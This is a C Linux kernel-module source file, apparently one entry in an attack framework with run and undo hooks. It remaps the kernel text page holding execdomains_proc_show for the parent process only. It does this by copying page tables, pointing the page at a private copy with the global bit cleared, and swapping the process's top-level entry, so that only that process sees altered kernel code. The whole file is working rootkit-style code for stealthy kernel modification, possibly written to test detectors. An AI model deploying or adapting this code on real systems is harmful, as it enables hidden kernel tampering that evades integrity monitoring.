// SPDX-License-Identifier: GPL-2.0-only
/*
 * Text mapped to a copied page in one process only, the one that started the
 * program that loads this: its top-level entry leads to copies of the tables
 * below. All shared tables stay as they are. The copy's entry is not global, so
 * that it does not stay in a TLB for others.
 */
#include <linux/sched/mm.h>

#include "remap.h"

ATTACK_SYMBOL(execdomains_proc_show);
static struct mm_struct *mm;
static u64 *top;
static u64 old;
static u8 *copy;
static u64 *tables[3]; /* of 1 GiB, 2 MiB and 4 KiB entries */

static u64 *copy_table(u64 entry)
{
	u64 *table = (u64 *)__get_free_page(GFP_KERNEL);

	return table ? memcpy(table, __va(entry & REMAP_ADDRESS), PAGE_SIZE) : NULL;
}

static int build(u8 *at)
{
	unsigned long a = (unsigned long)at;
	u64 leaf;

	copy = remap_copy(at);
	tables[0] = copy_table(old);
	if (!copy || !tables[0])
		return -ENOMEM;
	tables[1] = copy_table(tables[0][pud_index(a)]);
	if (!tables[1])
		return -ENOMEM;
	leaf = tables[1][pmd_index(a)];
	tables[2] = leaf & _PAGE_PSE ? remap_split(leaf) : copy_table(leaf);
	if (!tables[2])
		return -ENOMEM;
	leaf = tables[2][pte_index(a)];
	tables[2][pte_index(a)] = remap_entry(copy, leaf & ~(u64)_PAGE_GLOBAL);
	tables[1][pmd_index(a)] = remap_table(tables[2]);
	tables[0][pud_index(a)] = remap_table(tables[1]);
	return 0;
}

static int run(void)
{
	u8 *at = attack_body(execdomains_proc_show_at);
	int r;

	if (pgtable_l5_enabled())
		return -EOPNOTSUPP;
	mm = get_task_mm(current->real_parent);
	if (!mm)
		return -ESRCH;
	top = (u64 *)&mm->pgd[pgd_index((unsigned long)at)];
	old = *top;
	r = build(at);
	if (r) {
		mmput(mm);
		return r;
	}
	WRITE_ONCE(*top, remap_table(tables[0]));
	attack_flush();
	return 0;
}

static void undo(void)
{
	WRITE_ONCE(*top, old);
	attack_flush();
	mmput(mm);
	for (int i = 0; i < 3; i++)
		free_page((unsigned long)tables[i]);
	free_page((unsigned long)copy);
}

ATTACK(run, undo, NULL, "text mapped to a copy, in one process");
